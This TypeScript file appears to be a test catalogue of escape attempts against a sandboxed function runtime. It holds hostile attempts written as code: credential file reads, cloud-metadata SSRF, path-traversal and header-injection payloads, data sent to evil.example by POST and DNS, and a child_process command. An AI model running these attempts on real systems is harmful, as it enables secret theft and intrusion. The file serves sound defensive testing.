import type * as childProcess from "node:child_process";
import type * as dns from "node:dns/promises";
import type * as fs from "node:fs";
import type * as net from "node:net";
import type * as workerThreads from "node:worker_threads";

// What a function tries that wants the key which the courier gave the bakery. Each attempt returns what it got hold of, or throws.

/** What an attempt works with. */
export interface Surroundings {
  /** The one address that the contract lets it ask. */
  readonly allowed: string;
  /** The courier's origin. */
  readonly courier: string;
  /** A server on this machine that is nobody's business. */
  readonly bystander: string;
}

/** One way to get at the key, or out. */
export interface Attempt {
  /** What it tries, as a sentence goes on after "it tries to". */
  readonly says: string;
  /** What its finding would look like if it had worked, besides the key. Default: only the key would do. */
  readonly proof?: RegExp;
  /** Node's runner is there for what this does. */
  readonly isFineInNode?: true;
  /** Returns whatever it found, to be searched for the key. */
  readonly run: (surroundings: Surroundings) => Promise<unknown>;
}

type Fetching = Parameters<typeof fetch>[1];

/** Asks, and shows all that came back. */
async function ask(url: string, options?: Fetching): Promise<unknown> {
  const answer = await fetch(url, { redirect: "manual", ...options });
  return {
    status: answer.status,
    headers: [...answer.headers],
    body: (await answer.text()).slice(0, 20_000),
  };
}

/** Imports what a bundler must not see. */
export const load = async <Module>(name: string): Promise<Module> =>
  // oxlint-disable-next-line typescript/no-unnecessary-template-expression -- as an attacker writes it, past a bundler
  (await import(`${name}`)) as Module;

const at = (surroundings: Surroundings, path: string): string => new URL(path, surroundings.courier).href;

/** Reads a file by whatever the runtime offers for it. */
async function read(path: string): Promise<unknown> {
  const { readFileSync } = await load<typeof fs>("node:fs");
  return readFileSync(path, "latin1");
}

/** Opens a raw connection and reads what comes. */
async function connect(host: string, port: number): Promise<unknown> {
  const { connect: open } = await load<typeof net>("node:net");
  const socket = open(port, host);
  return new Promise((resolve, reject) => {
    socket.on("error", reject);
    socket.on("connect", () => resolve("it is connected"));
    socket.on("close", () => reject(new Error("closed")));
  });
}

/** What workerd offers for TCP. */
interface CloudflareSockets {
  connect(place: { hostname: string; port: number }): { readonly opened: Promise<unknown> };
}

/** All attempts, by name. */
export const attempts: Readonly<Record<string, Attempt>> = {
  "allowed-request": {
    says: "do what it may: ask for a quote, and look for the key in the answer",
    run: ({ allowed }) => ask(allowed),
  },
  environment: {
    says: "read the process's environment",
    run: async () => Promise.resolve({ ...globalThis.process?.env }),
  },
  "proc-environ": { says: "read /proc/self/environ", proof: /PATH=/, run: () => read("/proc/self/environ") },
  "proc-parent": {
    says: "read the memory map of the process that started it",
    proof: /[0-9a-f]+-[0-9a-f]+ r-xp/,
    run: () => read("/proc/1/maps"),
  },
  "vault-file": {
    says: "read the vault's file",
    proof: /SQLite format/,
    run: () => read("../../.curtainwall/vault/development.db"),
  },
  passwd: { says: "read /etc/passwd", proof: /root:/, run: () => read("/etc/passwd") },
  "list-root": {
    says: "list the root folder",
    proof: /"(?:etc|home|proc|usr)"/,
    run: async () => {
      const { readdirSync } = await load<typeof fs>("node:fs");
      return readdirSync("/");
    },
  },
  "other-path": {
    says: "see the bakery's invoices with the same key",
    proof: /"status":(?:101|2\d\d)/,
    run: (s) => ask(at(s, "/v1/invoices")),
  },
  "other-method": {
    says: "close the account",
    proof: /"status":(?:101|2\d\d)/,
    run: (s) => ask(at(s, "/v1/account"), { method: "DELETE" }),
  },
  "method-override": {
    says: "pass a DELETE off as a GET",
    run: ({ allowed }) => ask(allowed, { headers: { "x-http-method-override": "DELETE" } }),
  },
  echo: { says: "have the key echoed", proof: /"status":(?:101|2\d\d)/, run: (s) => ask(at(s, "/v1/echo")) },
  "echo-by-dots": {
    says: "reach the echo by dots in the path",
    proof: /"status":(?:101|2\d\d)/,
    run: (s) => ask(at(s, "/v1/quotes/../echo")),
  },
  "echo-by-encoded-dots": {
    says: "reach the echo by encoded dots",
    proof: /"status":(?:101|2\d\d)/,
    run: (s) => ask(`${s.courier}/v1/quotes/%2e%2e/echo?postcode=BS1&grams=1`),
  },
  "echo-by-encoded-slash": {
    says: "reach the echo by an encoded slash",
    proof: /"status":(?:101|2\d\d)/,
    run: (s) => ask(`${s.courier}/v1/quotes/..%2fecho?postcode=BS1&grams=1`),
  },
  "echo-by-backslash": {
    says: "reach the echo by a backslash",
    proof: /"status":(?:101|2\d\d)/,
    run: (s) => ask(`${s.courier}/v1/quotes%5c..%5cecho?postcode=BS1&grams=1`),
  },
  "double-slash": {
    says: "reach another path by two slashes",
    proof: /"status":(?:101|2\d\d)/,
    run: (s) => ask(`${s.courier}//v1/echo`),
  },
  "other-query": {
    says: "add a query key that the contract does not name",
    proof: /"status":(?:101|2\d\d)/,
    run: ({ allowed }) => ask(`${allowed}&callback=https://evil.example`),
  },
  "doubled-query": {
    says: "say a query key twice",
    proof: /"status":(?:101|2\d\d)/,
    run: ({ allowed }) => ask(`${allowed}&grams=2`),
  },
  "body-on-get": {
    says: "send a body to where none goes",
    proof: /"status":(?:101|2\d\d)/,
    run: ({ allowed }) => ask(allowed, { method: "POST", body: "{}" }),
  },
  "own-authorization": {
    says: "send an Authorization of its own, and learn from the refusal",
    run: ({ allowed }) => ask(allowed, { headers: { authorization: "Bearer mine" } }),
  },
  "other-host-header": {
    says: "name another host in the Host header",
    run: ({ allowed }) => ask(allowed, { headers: { host: "evil.example" } }),
  },
  "header-injection": {
    says: "write a second header into a first",
    run: ({ allowed }) => ask(allowed, { headers: { "x-note": "a\r\nx-curtainwall-function: other" } }),
  },
  "other-function": {
    says: "pass itself off as another function",
    proof: /"status":(?:101|2\d\d)/,
    run: (s) =>
      ask(at(s, "/v1/invoices"), {
        headers: { "x-curtainwall-function": "auditor", "x-curtainwall-route": "GET /api/invoices" },
      }),
  },
  "plain-http": {
    says: "ask without TLS",
    proof: /"status":(?:101|2\d\d)/,
    run: (s) => ask(s.allowed.replace("https:", "http:")),
  },
  "user-in-address": {
    says: "hide a host behind a user in the address",
    run: (s) => ask(s.allowed.replace("https://", "https://x:y@")),
  },
  stranger: {
    says: "send something to a stranger",
    proof: /"status":(?:101|2\d\d)/,
    run: () => ask("https://evil.example/collect", { method: "POST", body: "found" }),
  },
  bystander: {
    says: "ask another server of this machine",
    proof: /"status":(?:101|2\d\d)/,
    run: (s) => ask(s.bystander),
  },
  metadata: {
    says: "ask the cloud's metadata service",
    proof: /"status":(?:101|2\d\d)/,
    run: () => ask("http://169.254.169.254/latest/meta-data/"),
  },
  "metadata-by-number": {
    says: "ask it by a number",
    proof: /"status":(?:101|2\d\d)/,
    run: () => ask("https://2852039166/latest/meta-data/"),
  },
  "loopback-v6": {
    says: "ask loopback by IPv6",
    proof: /"status":(?:101|2\d\d)/,
    run: (s) => ask(s.bystander.replace("localhost", "[::1]")),
  },
  "internal-name": {
    says: "ask egress itself for its values",
    proof: /"status":(?:101|2\d\d)/,
    run: () => ask("https://egress.curtainwall.internal/values"),
  },
  "follow-redirect": {
    says: "be led on by a redirect",
    proof: /"status":(?:101|2\d\d)/,
    run: (s) => ask(at(s, "/v1/elsewhere"), { redirect: "follow" }),
  },
  "web-socket": {
    says: "open a WebSocket",
    proof: /"status":(?:101|2\d\d)/,
    run: async ({ allowed }) => ask(allowed, { headers: { upgrade: "websocket", connection: "Upgrade" } }),
  },
  "cloudflare-socket": {
    says: "open a TCP connection by cloudflare:sockets",
    proof: /remoteAddress|\{\}/,
    run: async ({ bystander }) => {
      const { connect: open } = await load<CloudflareSockets>("cloudflare:sockets");
      const socket = open({ hostname: "127.0.0.1", port: Number(new URL(bystander).port) });
      return socket.opened;
    },
  },
  "node-net": {
    says: "open a TCP connection by node:net",
    proof: /it is connected/,
    run: ({ bystander }) => connect("127.0.0.1", Number(new URL(bystander).port)),
  },
  "node-dns": {
    says: "carry something out in the name of a look-up",
    proof: /address/,
    run: async () => {
      const { lookup } = await load<typeof dns>("node:dns/promises");
      return lookup("stolen.evil.example");
    },
  },
  "child-process": {
    says: "start a program",
    proof: /uid=/,
    run: async () => {
      const { execSync } = await load<typeof childProcess>("node:child_process");
      return String(execSync("id; env; ls -la /"));
    },
  },
  worker: {
    says: "start a thread with code of its own",
    proof: /"PATH"/,
    run: async () => {
      const { Worker } = await load<typeof workerThreads>("node:worker_threads");
      const thread = new Worker("require('node:worker_threads').parentPort.postMessage(process.env)", {
        eval: true,
      });
      return new Promise((resolve, reject) => {
        thread.on("message", resolve);
        thread.on("error", reject);
      });
    },
  },
  eval: {
    says: "make code of a text",
    proof: /code of a text ran/,
    isFineInNode: true,
    // oxlint-disable-next-line no-eval -- the attempt itself
    run: async () => Promise.resolve((0, eval)("'code of a text ran'")),
  },
  wasm: {
    says: "compile WebAssembly",
    proof: /WebAssembly compiled/,
    isFineInNode: true,
    run: async () => {
      await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
      return "WebAssembly compiled";
    },
  },
  cache: {
    says: "leave something for the next call in a cache",
    proof: /a cache took it/,
    run: async ({ allowed }) => {
      const found: unknown = Reflect.get(globalThis, "caches");
      const cache = found as { default: Pick<Cache, "put"> } | undefined;
      await cache?.default.put(
        allowed,
        new Response("left behind", { headers: { "cache-control": "max-age=60" } }),
      );
      return cache === undefined ? undefined : "a cache took it";
    },
  },
  "own-stack": {
    says: "find something in the stack of an error",
    run: async () => Promise.resolve(new Error("where am I").stack),
  },
  globals: {
    says: "look through everything that is global",
    run: async () =>
      Promise.resolve(
        Object.getOwnPropertyNames(globalThis).map((name) => {
          try {
            return [name, String(Reflect.get(globalThis, name))];
          } catch (error) {
            return [name, String(error)];
          }
        }),
      ),
  },
};
